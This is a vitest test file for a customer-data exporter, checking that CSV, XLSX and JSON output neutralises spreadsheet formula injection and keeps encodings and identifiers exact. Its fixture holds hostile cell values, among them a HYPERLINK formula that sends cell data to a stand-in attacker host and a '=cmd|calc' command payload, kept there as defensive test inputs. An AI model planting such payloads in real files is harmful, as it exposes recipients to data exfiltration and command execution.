import crypto from 'node:crypto';
import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { neutralise, spreadsheetCell } from '../../src/export/format.js';
import { addEmailable, addScore, addScoreRun, makeStore } from './store.js';
import { exportFile } from './run.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\tTabbed', '\rReturn', '\0Nul'];

function hostileStore() {
  const { db } = makeStore();
  const run = addScoreRun(db);
  HOSTILE.forEach((text, i) => {
    const id = addEmailable(db, { email: `h${i}@example.com`, firstName: text, lastName: 'Plain', city: 'Lyon', sms: '+33612345678', birthDate: i === 0 ? '=cmd|calc' : '1990-01-02' });
    addScore(db, run, id, { segment: '-Lapsed', r: 5, monetaryMinor: -2500 });
  });
  return db;
}

const COLUMNS = ['email', 'first_name', 'last_name', 'sms', 'birth_date', 'segment', 'r', 'monetary'];

describe('spreadsheet safety', () => {
  it('neutralises free text starting with = + - @ tab CR NUL and nothing else', () => {
    for (const text of HOSTILE) expect(neutralise(text)).toBe(`'${text}`);
    for (const text of ['Jeanne', "'quoted", ' =spaced', 'a=b', '']) expect(neutralise(text)).toBe(text);
    expect(spreadsheetCell('e164', '+33612345678')).toBe('+33612345678');
    expect(spreadsheetCell('e164', '+33 =1')).toBe("'+33 =1");
    expect(spreadsheetCell('number', '-25')).toBe('-25');
    expect(spreadsheetCell('number', -25)).toBe(-25);
    expect(spreadsheetCell('date', '2026-01-02')).toBe('2026-01-02');
    expect(spreadsheetCell('date', '=cmd|calc')).toBe("'=cmd|calc");
  });

  it('CSV: hostile names are prefixed, phones numbers and dates are written as they are', async () => {
    const { file } = await exportFile(hostileStore(), {}, { format: 'csv', columns: COLUMNS });
    const rows = Papa.parse<string[]>(fs.readFileSync(file, 'utf8'), { skipEmptyLines: false }).data.filter((r) => r.length > 1);
    const body = rows.slice(1).sort((a, b) => a[0]!.localeCompare(b[0]!));
    expect(body.map((r) => r[1])).toEqual(HOSTILE.map((t) => `'${t}`));
    for (const row of body) {
      expect(row[3]).toBe('+33612345678');
      expect(row[5]).toBe("'-Lapsed");
      expect(row[6]).toBe('5');
      expect(row[7]).toBe('-25');
    }
    expect(body.find((r) => r[0] === 'h0@example.com')![4]).toBe("'=cmd|calc");
    expect(body.find((r) => r[0] === 'h1@example.com')![4]).toBe('1990-01-02');
  });

  it('XLSX opens with exceljs: header, every text a string cell written as it is (never prefixed), numbers as numbers', async () => {
    const { file, result } = await exportFile(hostileStore(), {}, { format: 'xlsx', columns: COLUMNS });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    expect(workbook.worksheets).toHaveLength(1);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).cellCount).toBe(COLUMNS.length);
    expect(COLUMNS.map((_, i) => sheet.getRow(1).getCell(i + 1).text)).toEqual(COLUMNS);
    expect(sheet.rowCount).toBe(1 + HOSTILE.length);
    expect(result.rows).toBe(HOSTILE.length);
    const names: unknown[] = [];
    for (let r = 2; r <= sheet.rowCount; r++) {
      const row = sheet.getRow(r);
      names.push(row.getCell(2).text);
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.RichText);
      expect(row.getCell(4).text).toBe('+33612345678');
      expect(row.getCell(6).text).toBe('-Lapsed');
      expect(row.getCell(7).value).toBe(5);
      expect(row.getCell(8).value).toBe(-25);
      expect(row.getCell(2).formula).toBeUndefined();
    }
    // XML keeps no NUL and reads CR as LF; the names are as they were, a string cell is never a formula.
    expect(names.sort()).toEqual(HOSTILE.map((t) => t.replace(/\0/g, '').replace(/\r/g, '\n')).sort());
  });
});

describe('output formats and options', () => {
  function frenchStore() {
    const { db } = makeStore();
    addEmailable(db, { email: 'zoe@example.com', firstName: 'Zoé', lastName: 'Lefèvre', city: 'Besançon' });
    addEmailable(db, { email: 'anna@example.com', firstName: 'Anna', lastName: 'Łukasz', city: 'Kraków; "PL"' });
    return db;
  }

  it('CSV in Windows-1252 with ; and a count of characters it cannot hold', async () => {
    const { file, result } = await exportFile(frenchStore(), {}, { format: 'csv', encoding: 'cp1252', delimiter: ';', columns: ['email', 'first_name', 'last_name', 'city'] });
    const bytes = fs.readFileSync(file);
    expect(bytes.includes(Buffer.from([0xe9]))).toBe(true); // é as one byte
    const text = iconv.decode(bytes, 'win1252');
    expect(text.split('\r\n')).toEqual(['email;first_name;last_name;city', 'zoe@example.com;Zoé;Lefèvre;Besançon', 'anna@example.com;Anna;?ukasz;"Kraków; ""PL"""', '']);
    expect(result.unencodable).toBe(1);
  });

  it('UTF-8 with a BOM for Excel, file mode 0600, SHA-256 of the bytes in the log', async () => {
    const db = frenchStore();
    const { file, result } = await exportFile(db, {}, { format: 'csv', bom: true, columns: ['email', 'city'] });
    const bytes = fs.readFileSync(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    const sha = crypto.createHash('sha256').update(bytes).digest('hex');
    expect(result.files[0]!.sha256).toBe(sha);
    expect((db.prepare('SELECT sha256, row_count FROM exports WHERE id = ?').get(result.exportId) as object)).toEqual({ sha256: sha, row_count: 2 });
  });

  it('JSON is one array of objects with typed values; JSON Lines one object per line', async () => {
    const db = frenchStore();
    const json = await exportFile(db, {}, { format: 'json', columns: ['email', 'first_name'] });
    expect(JSON.parse(fs.readFileSync(json.file, 'utf8'))).toEqual([
      { email: 'zoe@example.com', first_name: 'Zoé' },
      { email: 'anna@example.com', first_name: 'Anna' },
    ]);
    const empty = await exportFile(db, { where: 'city = "nowhere"' }, { format: 'json' });
    expect(JSON.parse(fs.readFileSync(empty.file, 'utf8'))).toEqual([]);
    const lines = await exportFile(db, {}, { format: 'jsonl', columns: ['first_name'] });
    expect(fs.readFileSync(lines.file, 'utf8')).toBe('{"first_name":"Zoé"}\n{"first_name":"Anna"}\n');
  });

  it('an empty selection still writes the header', async () => {
    const { file, result } = await exportFile(frenchStore(), { where: 'city = "nowhere"' }, { format: 'csv', columns: ['email', 'city'] });
    expect(fs.readFileSync(file, 'utf8')).toBe('email,city\r\n');
    expect(result.rows).toBe(0);
  });

  it('refuses options that do not fit the format before writing anything', async () => {
    const db = frenchStore();
    await expect(exportFile(db, {}, { format: 'json', encoding: 'cp1252' })).rejects.toThrow(/CSV only/);
    await expect(exportFile(db, {}, { format: 'csv', encoding: 'cp1252', bom: true })).rejects.toThrow(/--bom/);
    await expect(exportFile(db, {}, { format: 'csv', columns: ['email', 'favourite_colour'] })).rejects.toThrow(/unknown column "favourite_colour"/);
    expect((db.prepare('SELECT count(*) AS n FROM exports').get() as { n: number }).n).toBe(0);
  });
});

describe('addresses and identifiers are written byte-exact in every format', () => {
  function store() {
    const { db } = makeStore();
    addEmailable(db, { email: '-leroy@gmail.com', firstName: '+33612345678', lastName: 'Leroy', postalCode: '-01000', sms: '+33612345678' });
    return db;
  }
  const columns = ['email', 'first_name', 'postal_code', 'sms'];

  it('CSV: the email and codes as they are; a name that looks like a phone is free text, neutralised', async () => {
    const { file } = await exportFile(store(), {}, { format: 'csv', columns, parallel: { workers: 0 } });
    expect(fs.readFileSync(file, 'utf8').split('\r\n')[1]).toBe("-leroy@gmail.com,'+33612345678,-01000,+33612345678");
    const many = await exportFile(store(), {}, { format: 'csv', columns, parallel: { workers: 2 } });
    expect(fs.readFileSync(many.file, 'utf8')).toBe(fs.readFileSync(file, 'utf8'));
  });

  it('XLSX: no apostrophe anywhere, every cell a string cell', async () => {
    for (const preset of [undefined, 'brevo', 'hubspot']) {
      const { file } = await exportFile(store(), {}, preset ? { format: 'xlsx', preset } : { format: 'xlsx', columns });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(file);
      const row = workbook.worksheets[0]!.getRow(2);
      const texts: string[] = [];
      row.eachCell((cell) => texts.push(cell.text));
      expect(texts).toContain('-leroy@gmail.com');
      expect(texts).toContain('+33612345678');
      expect(texts.some((t) => t.startsWith("'"))).toBe(false);
    }
  });

  it('JSON: written as stored', async () => {
    const { file } = await exportFile(store(), {}, { format: 'json', columns });
    expect(JSON.parse(fs.readFileSync(file, 'utf8'))).toEqual([{ email: '-leroy@gmail.com', first_name: '+33612345678', postal_code: '-01000', sms: '+33612345678' }]);
  });
});
